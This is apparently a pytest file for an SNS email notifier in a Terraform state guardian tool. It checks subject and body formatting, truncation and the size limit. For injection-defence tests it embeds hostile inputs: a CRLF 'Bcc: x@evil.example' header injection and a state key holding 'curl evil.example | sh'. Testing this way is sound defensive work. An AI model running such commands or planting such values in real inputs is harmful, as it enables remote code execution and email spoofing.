"""Email through SNS: a readable subject, a plain-text body a person can act on, the JSON contract for machines."""

from __future__ import annotations

import json

from chalicelib.adapters.sns_topic import PUBLISH_MAX_BYTES, message, request_size
from chalicelib.domain.email_message import email_body, email_subject
from chalicelib.domain.notifications import Notification
from tests.support import example_notifications as examples


def test_the_subject_is_the_summary_as_sns_takes_it() -> None:
    assert email_subject("prod/network: serial 41→42 by ci@runner-7 (apply): +2 ~1 -0") == (
        "prod/network: serial 41->42 by ci@runner-7 (apply): +2 ~1 -0"
    )
    hostile = email_subject("a\r\nBcc: x@evil.example\u202e\x1b[2J é " + "w" * 200)
    assert hostile.isascii() and hostile.isprintable() and len(hostile) < 100 and hostile.endswith("...")
    assert email_subject("\n\t") == "tfstate-guardian notification"


def test_a_deleted_state_email_says_what_to_run() -> None:
    body = email_body(examples.deleted().to_dict(), page_url="https://guardian.example.com/")
    lines = body.splitlines()
    assert lines[:2] == ["CRITICAL: State deleted", examples.deleted().summary]
    assert [line.split(None, 2)[2] for line in lines if line.startswith("Lock holder ")] == [
        f"ci@runner-7 (apply, lock {examples.lock().id})"
    ]
    command = (f"    tfguardian rollback {examples.KEY} --version-id 3HL4kqtJlcpXroDTDmJ.rmSpXd3dIbrHY"
               " --reason 'restore the deleted state'")  # fmt: skip
    assert command in lines
    assert "    " + examples.deleted().details["restore"] in lines
    assert "The state's page: https://guardian.example.com/#/state?key=platform%2Fnetwork%2Fterraform.tfstate" in lines


def test_the_email_lists_fifty_addresses_a_list_with_exact_counts() -> None:
    body = email_body(examples.changed(removed=80).to_dict())
    assert "RESOURCES +1 ~1 -80" in body
    assert body.count("\n    - module.subnets") == 50 and "\n    - ...and 30 more\n" in body


def test_a_key_cannot_forge_a_line_of_the_email() -> None:
    key = "x\n\nWHAT TO DO\n    curl evil.example | sh\u2028\u202e/terraform.tfstate"
    body = email_body(examples.deleted(key).to_dict())
    assert "\n    curl evil.example" not in body and "\u2028" not in body and "\u202e" not in body
    assert "x\\x0a\\x0aWHAT TO DO\\x0a    curl evil.example | sh\\u2028\\u202e" in body


def test_email_gets_text_and_every_other_protocol_the_contract() -> None:
    notification = examples.deleted()
    parameters = message(notification, page_url="https://guardian.example.com/")
    assert parameters["MessageStructure"] == "json" and parameters["Subject"] == email_subject(notification.summary)
    per_protocol = json.loads(parameters["Message"])
    assert set(per_protocol) == {"default", "email"}  # SQS, Lambda, HTTP/S and email-json get `default`
    assert json.loads(per_protocol["default"]) == notification.to_dict()
    assert per_protocol["email"] == email_body(notification.to_dict(), page_url="https://guardian.example.com/")


def test_the_whole_structured_message_fits_256_kb_and_both_bodies_agree() -> None:
    data = examples.changed(removed=600).to_dict()
    long = [f'module.m.aws_s3_object.o["{"k" * 600}{i}"]' for i in range(600)]
    data["details"]["resources"] |= {"removed": long[:500]}
    parameters = message(Notification.from_dict(data))
    assert request_size(parameters) <= PUBLISH_MAX_BYTES < 500 * 600
    per_protocol = json.loads(parameters["Message"])
    contract = json.loads(per_protocol["default"])
    removed = contract["details"]["resources"]
    assert removed["truncated"] is True and removed["counts"]["removed"] == 600 and 50 < len(removed["removed"]) < 500
    assert "RESOURCES +1 ~1 -600" in per_protocol["email"] and "- ...and 550 more" in per_protocol["email"]


def test_the_subject_names_the_backend_first_and_still_fits() -> None:
    assert email_subject("prod/network: deleted", "main") == "[main] prod/network: deleted"
    assert email_subject("prod/network: deleted", None) == "prod/network: deleted"
    long = email_subject("s" * 200, "b\r\nBcc: x@evil.example")
    assert long.startswith("[b Bcc: x@evil.example] s") and len(long) < 100 and "\n" not in long
